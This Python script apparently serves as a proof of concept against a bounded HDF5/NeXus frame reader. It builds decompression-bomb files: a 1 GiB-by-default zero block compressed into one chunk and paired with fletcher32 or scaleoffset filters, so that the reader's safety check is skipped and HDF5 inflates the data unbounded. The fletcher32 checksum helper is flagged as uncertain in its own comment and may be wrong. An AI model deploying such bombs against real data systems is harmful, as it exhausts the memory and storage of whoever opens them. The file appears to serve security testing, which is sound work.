"""Round 2: a deflate bomb that also carries a second built-in filter (fletcher32 / scaleoffset / nbit) so that
BoundedFrameReader.decodes_itself is False and HDF5 inflates it unbounded. usage: python r2_bomb_filters.py DIR [MIB]"""
import os, sys, time, zlib, h5py, numpy as np
d = sys.argv[1]; mib = int(sys.argv[2]) if len(sys.argv) > 2 else 1024
os.makedirs(d, exist_ok=True)
rng = np.random.default_rng(5)
frames = rng.poisson(3.0, size=(4, 195, 487)).astype("int32")
bomb = zlib.compress(bytes(mib * 2**20), 9)
def make(name, **filters):
    p = os.path.join(d, name)
    with h5py.File(p, "w") as f:
        e = f.create_group("entry1")
        e["scan_command"] = "scan eta 10 10.75 0.25 pil3_100k 1"; e["start_time"] = "2026-12-05T00:00:00"; e["end_time"] = "2026-12-05T00:01:00"
        g = e.create_group("pil3_100k"); g.attrs["NX_class"] = "NXdetector"
        ds = g.create_dataset("data", data=frames, chunks=(1, 195, 487), compression="gzip", **filters)
        if filters.get("fletcher32"):
            raw = bomb + zlib_fletcher(bomb)
            ds.id.write_direct_chunk((2, 0, 0), raw)
        else:
            ds.id.write_direct_chunk((2, 0, 0), bomb)
    print(name, os.path.getsize(p), "bytes; filters", [ds_f for ds_f in filters])
def zlib_fletcher(buf):
    # HDF5's fletcher32 checksum (H5_checksum_fletcher32) of the filtered bytes, appended big-endian? compute via HDF5: write a
    # chunk through HDF5 is not possible for a bomb, so mimic H5_checksum_fletcher32
    import struct
    data = buf; length = len(data); sum1 = sum2 = 0; i = 0; l = length // 2
    a = np.frombuffer(data[: l * 2], dtype=">u2").astype(np.uint64)
    # blocks of 360 words as in HDF5
    for start in range(0, l, 360):
        for w in a[start:start + 360].tolist():
            sum1 += w; sum2 += sum1
        sum1 = (sum1 & 0xffff) + (sum1 >> 16); sum2 = (sum2 & 0xffff) + (sum2 >> 16)
    if length % 2:
        sum1 += data[-1] << 8; sum2 += sum1
        sum1 = (sum1 & 0xffff) + (sum1 >> 16); sum2 = (sum2 & 0xffff) + (sum2 >> 16)
    sum1 = (sum1 & 0xffff) + (sum1 >> 16); sum2 = (sum2 & 0xffff) + (sum2 >> 16)
    return struct.pack("<I", (sum2 << 16) | sum1)
make("bomb_gzip_only.nxs")                      # control: refused by the bounded reader
make("bomb_fletcher.nxs", fletcher32=True)
make("bomb_scaleoffset.nxs", scaleoffset=0)     # int scale-offset, applied before gzip: HDF5 inflates the bomb first
